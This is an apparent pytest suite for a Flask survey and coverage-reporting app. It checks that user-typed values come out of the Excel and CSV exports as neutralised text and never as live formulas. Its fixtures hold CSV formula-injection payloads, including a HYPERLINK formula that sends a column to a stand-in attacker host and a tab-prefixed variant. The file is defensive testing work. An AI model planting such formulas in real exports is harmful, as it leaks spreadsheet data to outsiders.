"""Formula injection, end to end (issue 13, finding 1; DESIGN §10): values people typed reach
every export as text, never as a formula.

A collector sends, through the Kobo hook, a person not on the roster (a finding, listed by
name on the data-quality sheet) whose full name is a formula, and another whose name only
becomes one after intake strips its leading tab; a roster names ``+SUM(1,2)``, who has no
record (the personal list); an imported unit is called ``=1+1``. The admin's Excel and CSV
downloads and ``vssid report coverage --format xlsx|csv`` are then read back with openpyxl,
with the csv module and through LibreOffice: each of those values is the neutralised text
(a leading ``'``), no cell is a formula, and LibreOffice shows the text, not its value.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from sqlalchemy import select
from sqlalchemy.orm import Session

from ingest.models import Submission
from ingest.registry import accounts
from tests.conftest import REALM, make_user
from tests.dashboard.scenario import sign_in
from tests.pipeline import settle
from tests.wire import KOBO_SECRET

pytestmark = pytest.mark.usefixtures("published")

AS_OF = "2021-03-31"
#: The issue's payload: a link that sends a column to the attacker when clicked (no digit:
#: the form flags a name with one, and a flagged record is in no report).
LINK = '=HYPERLINK("http://evil.example/?d="&A:A,"Xem chi tiết")'
#: Another, which only becomes a formula when intake strips its leading tab.
TABBED = '\t=HYPERLINK("http://evil.example/?d="&B:B,"Xem")'
ROSTER_NAME = "+SUM(1,2)"
UNIT_NAME = "=1+1"
ROSTER = f"""Mã số BHXH,Họ và tên,Đối tượng,Mã đơn vị
0791000001,Nguyễn Văn An,Công chức,27184
0791000002,"{ROSTER_NAME}",Công chức,27184
"""
UNITS = f"""code,name_vi,kind,headcount_cong_chuc
Q10-X,{UNIT_NAME},department,4
"""
#: Each hostile value as every export must show it.
NEUTRALISED = {
    "'" + LINK,
    "'" + TABBED.lstrip("\t"),
    "'" + ROSTER_NAME,
    "'" + UNIT_NAME,
}
OFFICE = shutil.which("libreoffice") or shutil.which("soffice")


def person(instance_id: str, code: str, name: str, unit: str) -> dict[str, Any]:
    return {
        "consent": "yes", "unit": unit, "full_name": name, "bhxh_code": code,
        "category": "cong_chuc", "status": "account_active", "install_date": "2021-03-16",
        "end": "2021-03-16T09:00:00+07:00", "meta/instanceID": instance_id,
    }  # fmt: skip


@pytest.fixture
def hostile(
    published: Any, client: FlaskClient, runner: FlaskCliRunner, session: Session, tmp_path: Path
) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    result = runner.invoke(args=["roster", "import", str(roster), "--as-of", "2021-03-01"])
    assert result.exit_code == 0 and "2 added" in result.output, result.output
    units = tmp_path / "units.csv"
    units.write_text(UNITS, encoding="utf-8")
    result = runner.invoke(args=["units", "import", str(units)])
    assert result.exit_code == 0 and "1 added" in result.output, result.output
    accounts.create_user(session, "kobo", "integration", KOBO_SECRET, REALM)
    make_user(session, "quan.tri", "admin")
    for document in (
        person("uuid:an", "0791000001", "Nguyễn Văn An", "27184"),
        person("uuid:link", "0791000098", LINK, "27184"),
        person("uuid:tab", "0791000099", TABBED, "27184"),
    ):
        response = client.post(
            "/kobo/submission?form_id=vssid_install",
            data=json.dumps(document, ensure_ascii=False),
            content_type="application/json",
            headers={"Authorization": f"Token {KOBO_SECRET}"},
        )
        assert response.status_code == 201, response.json
    settle(session)


@pytest.fixture
def admin(app: Flask, hostile: None) -> FlaskClient:
    browser = app.test_client()
    assert sign_in(browser, "quan.tri").status_code == 302
    return browser


def cells(book: bytes) -> Iterator[tuple[str, Any]]:
    """(sheet, cell) of every cell a workbook holds."""
    for ws in openpyxl.load_workbook(io.BytesIO(book)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def assert_no_formula(book: bytes, expected: set[str]) -> None:
    found = set()
    for sheet, cell in cells(book):
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            found.add(cell.value)
            raw = cell.value.lstrip("'")
            assert cell.value.startswith("'") or raw not in {v.lstrip("'") for v in expected}
    assert expected <= found, expected - found


def libreoffice_csv(path: Path, tmp_path: Path, sheets: bool) -> str:
    """Every sheet of ``path`` as LibreOffice reads it and writes it back as CSV (UTF-8)."""
    assert OFFICE is not None
    out = tmp_path / f"lo-{path.stem}"
    options = "44,34,76,1,,0,false,true,false,false,false" + (",-1" if sheets else "")
    infilter = [] if sheets else ["--infilter=CSV:44,34,76"]
    subprocess.run(
        [OFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
         *infilter, "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}",
         "--outdir", str(out), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return "\n".join(p.read_text(encoding="utf-8") for p in sorted(out.glob("*.csv")))


def csv_cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def assert_shown_as_text(converted: str, expected: set[str]) -> None:
    shown = csv_cells(converted)
    assert expected <= shown, expected - shown
    assert not {"Xem", "Xem chi tiết"} & shown  # what the links evaluate to


# --- the dashboard's downloads -------------------------------------------------------------


def test_download_xlsx__typed_values_are_text_never_formulas(admin: FlaskClient):
    response = admin.get(f"/download/coverage.xlsx?as_of={AS_OF}")
    assert response.status_code == 200
    assert_no_formula(response.data, NEUTRALISED)


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_download_xlsx__libreoffice_shows_the_text(admin: FlaskClient, tmp_path: Path):
    path = tmp_path / "bao-cao.xlsx"
    path.write_bytes(admin.get(f"/download/coverage.xlsx?as_of={AS_OF}").data)
    assert_shown_as_text(libreoffice_csv(path, tmp_path, sheets=True), NEUTRALISED)


def test_download_csv__unit_name_neutralised(admin: FlaskClient):
    text = admin.get(f"/download/coverage.csv?as_of={AS_OF}").data.decode("utf-8-sig")
    assert "'" + UNIT_NAME in csv_cells(text)
    assert UNIT_NAME not in csv_cells(text)


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_download_csv__libreoffice_shows_the_text(admin: FlaskClient, tmp_path: Path):
    path = tmp_path / "bao-cao.csv"
    path.write_bytes(admin.get(f"/download/coverage.csv?as_of={AS_OF}").data)
    converted = libreoffice_csv(path, tmp_path, sheets=False)
    assert "'" + UNIT_NAME in csv_cells(converted)
    assert UNIT_NAME not in csv_cells(converted)


def test_download_xlsx__control_character_in_an_accepted_name__still_written(
    admin: FlaskClient, client: FlaskClient, runner: FlaskCliRunner, session: Session
):
    """Intake flags a name with a control character, and a reviewer may accept it; XML
    cannot carry the character, so the workbook shows U+FFFD rather than failing."""
    document = person("uuid:bell", "0791000097", "Lê\u0007Văn Chuông", "27184")
    response = client.post(
        "/kobo/submission?form_id=vssid_install",
        data=json.dumps(document),
        content_type="application/json",
        headers={"Authorization": f"Token {KOBO_SECRET}"},
    )
    assert response.status_code == 201, response.json
    settle(session)
    flagged = session.scalar(select(Submission.id).where(Submission.instance_id == "uuid:bell"))
    args = ["review", "accept", str(flagged), "--reason", "đã xác minh", "--by", "quan.tri"]
    assert runner.invoke(args=args).exit_code == 0
    settle(session)
    response = admin.get(f"/download/coverage.xlsx?as_of={AS_OF}")
    assert response.status_code == 200
    assert "Lê\ufffdVăn Chuông" in {cell.value for _sheet, cell in cells(response.data)}


# --- the command line ------------------------------------------------------------------------


@pytest.mark.usefixtures("hostile")
def test_cli_xlsx__unit_name_is_text(runner: FlaskCliRunner, tmp_path: Path):
    path = tmp_path / "bao-cao.xlsx"
    args = ["report", "coverage", "--as-of", AS_OF, "--format", "xlsx", "--out", str(path)]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    assert_no_formula(path.read_bytes(), {"'" + UNIT_NAME})  # no names: the CLI's has none
    if OFFICE is not None:
        assert_shown_as_text(libreoffice_csv(path, tmp_path, sheets=True), {"'" + UNIT_NAME})


@pytest.mark.usefixtures("hostile")
def test_cli_csv__unit_name_neutralised(runner: FlaskCliRunner):
    args = ["report", "coverage", "--as-of", AS_OF, "--format", "csv"]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    shown = csv_cells(result.stdout_bytes.decode("utf-8-sig"))
    assert "'" + UNIT_NAME in shown and UNIT_NAME not in shown
